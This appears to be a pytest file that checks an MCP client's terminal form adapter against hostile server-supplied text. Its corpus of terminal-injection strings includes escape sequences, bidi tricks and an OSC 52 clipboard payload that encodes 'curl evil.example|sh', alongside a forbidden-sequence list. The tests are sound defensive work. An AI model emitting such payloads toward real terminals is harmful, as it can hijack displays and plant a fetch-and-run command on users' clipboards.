"""A corpus of hostile strings, each in every place a server can put text, through both prompters.

tests/ui_adapters/test_terminal_hostile.py shows one combined hostile string in one form; here every
kind of trick is checked on its own (so one that slips through is named), in the message, a field's
title and description, an option's label and the server's own name, in line mode and on the
interactive terminal. Every string carries the visible word ``MARK``: what is left must still be
readable, not just harmless. Large forms are refused or paged with a message, within a bound.
"""

from __future__ import annotations

import io
import re
from typing import Any

import anyio
import pytest
from rich.console import Console

from mcp_client.types import ElicitRequestFormParams, ElicitResult
from tests.ui_adapters._terminal_helpers import ESC, converse, make_context, terminal
from ui_adapters.terminal import TerminalFormAdapter

pytestmark = pytest.mark.anyio

BOUND = 60

CORPUS: dict[str, str] = {
    "csi_clear_screen": "\x1b[2J\x1b[HMARK",
    "cursor_up_and_erase": "MARK\x1b[1A\x1b[2K\x1b[999D",
    "osc_title_bel": "\x1b]0;PWNED\x07MARK",
    "osc_title_st": "\x1b]2;PWNED\x1b\\MARK",
    "osc8_hyperlink": "\x1b]8;;https://evil.example/\x1b\\MARK\x1b]8;;\x1b\\",
    "osc52_clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07MARK",
    "dcs_query": '\x1bP$q"p\x1b\\MARK',
    "c1_csi": "\x9b2J\x9b1AMARK",
    "c1_osc": "\x9d0;PWNED\x9cMARK",
    "carriage_return_overwrite": "EVIL-PAYLOAD\rMARK",
    "backspace_overwrite": "EVIL\x08\x08\x08\x08MARK",
    "bidi_override": "\u202eKRAM\u202c MARK \u202dx\u202c",
    "bidi_isolates": "\u2066MARK\u2069\u2067x\u2069\u2068y\u2069\u200e\u200f",
    "zero_width": "M\u200bA\u200cR\u200dK\u2060\ufeff",
    "rich_markup": "[link=https://evil.example]MARK[/link] [bold red]x[/] :skull: [/]",
    "nul_and_del": "MA\x00R\x7fK",
    "unterminated_osc": "MARK \x1b]0;everything after this is swallowed",
    "line_separators": "MARK\u2028x\u2029y\x0bz\x0cw\x85v",
    "very_long_line": "MARK" + "A" * 1_000_000,
}
FORBIDDEN = [
    "\x1b]", "\x1bP", "\x9b", "\x9d", "\x9c", "PWNED", "\x07", "\x08", "\x00", "\x7f", "\x85", "\x0b", "\x0c",
    "\u202e", "\u202d", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\u200c", "\u200d",
    "\u2060", "\ufeff", "\u200e", "\u200f", "\u2028", "\u2029",
]  # fmt: skip
PLACES = ["message", "title", "description", "option", "server_name"]
_SGR = re.compile(r"\x1b\[[0-9;]*m")


def hostile_form(text: str, place: str) -> tuple[ElicitRequestFormParams, str]:
    """A form with ``text`` in ``place`` (and plain words elsewhere), and the server name to use."""
    pick: dict[str, Any] = {
        "type": "string",
        "title": text if place == "title" else "Pick",
        "description": text if place == "description" else "Choose one",
        "oneOf": [
            {"const": "a", "title": text if place == "option" else "Apple"},
            {"const": "b", "title": "Pear"},
        ],
    }
    schema = {"type": "object", "properties": {"pick": pick}, "required": ["pick"]}
    message = text if place == "message" else "Please answer"
    name = text if place == "server_name" else "plain-server"
    return ElicitRequestFormParams(message=message, requested_schema=schema), name


def assert_clean(console_text: str, *, colour: bool) -> None:
    if colour:  # rich's own colours are the only escape sequences allowed
        assert "\x1b" not in _SGR.sub("", console_text)
    else:
        assert "\x1b" not in console_text
    assert "\r" not in console_text
    for payload in FORBIDDEN:
        assert payload not in console_text, repr(payload)
    assert len(console_text) < 100_000  # a megabyte of server text is cut, not printed


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", list(CORPUS))
async def test_line_mode_shows_hostile_text_as_plain_readable_text(name: str, place: str) -> None:
    params, server_name = hostile_form(CORPUS[name], place)
    out = io.StringIO()
    adapter = TerminalFormAdapter(
        console=Console(file=out, width=100, color_system=None), line_input=io.StringIO("")
    )
    with anyio.fail_after(BOUND):
        result = await adapter(make_context(name=server_name), params)
    assert result == ElicitResult(action="cancel")  # end of input: nothing was answered
    shown = out.getvalue()
    assert_clean(shown, colour=False)
    assert "MARK" in shown.replace("\n", "").replace(" ", "")
    if name == "carriage_return_overwrite":  # nothing is hidden by overwriting: both parts are there
        assert "EVIL-PAYLOAD" in shown
    if name == "rich_markup":
        assert "[link=https://evil.example]MARK[/link]" in shown


@pytest.mark.parametrize("name", list(CORPUS))
async def test_the_interactive_terminal_shows_hostile_text_as_plain_readable_text(name: str) -> None:
    """Everywhere at once, on a colour terminal: the option labels are drawn by prompt_toolkit."""
    text = CORPUS[name]
    params = ElicitRequestFormParams(
        message=text,
        requested_schema={
            "type": "object",
            "properties": {
                "pick": {
                    "type": "string",
                    "title": text,
                    "description": text,
                    "oneOf": [{"const": "a", "title": f"OPTION {text}"}, {"const": "b", "title": "Pear"}],
                }
            },
            "required": ["pick"],
        },
    )
    with terminal(colour=True) as term:
        result = await converse(term, params, [("", "Pear"), (ESC, None)], context=make_context(name=text))
    assert result == ElicitResult(action="cancel")
    assert_clean(term.console_text, colour=True)
    for payload in FORBIDDEN:
        assert payload not in term.screen_text, repr(payload)
    assert "MARK" in re.sub(r"\s", "", _SGR.sub("", term.console_text))
    assert "OPTION" in term.screen_text  # drawn, then erased when the question ended


@pytest.mark.parametrize(
    ("properties", "message"),
    [
        ({f"f{i}": {"type": "string"} for i in range(20_000)}, "20000 fields"),
        ({"many": {"type": "array", "items": {"enum": [f"o{i}" for i in range(50_000)]}}}, "50000 choices"),
        ({"one": {"type": "string", "enum": [f"o{i}" for i in range(30_000)]}}, "30000 choices"),
    ],
    ids=["fields", "multi_choice_options", "single_choice_options"],
)
async def test_line_mode_refuses_huge_forms_with_a_message(properties: dict[str, Any], message: str) -> None:
    out = io.StringIO()
    adapter = TerminalFormAdapter(
        console=Console(file=out, width=100, color_system=None), line_input=io.StringIO("")
    )
    params = ElicitRequestFormParams(
        message="Big", requested_schema={"type": "object", "properties": properties}
    )
    with anyio.fail_after(BOUND):
        result = await adapter(make_context(), params)
    assert result == ElicitResult(action="decline")
    assert message in out.getvalue()


async def test_a_form_at_the_limits_is_asked_and_paged_not_frozen() -> None:
    """200 fields of 10 000 options each (the defaults): asked one field at a time, the options listed
    in part with a count of the rest; end of input cancels."""
    properties = {f"f{i}": {"type": "string", "enum": [f"o{j}" for j in range(10_000)]} for i in range(200)}
    out = io.StringIO()
    adapter = TerminalFormAdapter(
        console=Console(file=out, width=100, color_system=None), line_input=io.StringIO("")
    )
    params = ElicitRequestFormParams(
        message="Huge", requested_schema={"type": "object", "properties": properties}
    )
    with anyio.fail_after(BOUND):
        result = await adapter(make_context(), params)
    assert result == ElicitResult(action="cancel")
    shown = out.getvalue()
    assert "200 fields to fill in" in shown
    assert "... and 9950 more" in shown
    assert len(shown) < 20_000
